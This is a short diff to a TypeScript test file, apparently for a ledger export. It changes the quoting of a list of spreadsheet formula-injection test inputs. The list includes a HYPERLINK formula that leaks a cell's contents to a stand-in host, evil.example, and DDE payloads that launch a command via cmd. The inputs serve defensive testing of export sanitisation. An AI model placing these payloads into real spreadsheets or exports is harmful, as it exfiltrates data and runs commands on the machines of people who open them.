@@ -24,9 +24,9 @@ const row = (over: Partial<LedgerRow>): LedgerRow => ({
 
 const HOSTILE = [
   '=HYPERLINK("http://evil.example/?"&A1,"点此")',
-  '+cmd|\' /C calc\'!A0',
+  "+cmd|' /C calc'!A0",
   '-2+3',
-  '@SUM(1+1)*cmd|\' /C calc\'!A0',
+  "@SUM(1+1)*cmd|' /C calc'!A0",
   '\t=1+1',
   '\r=1+1',
 ];
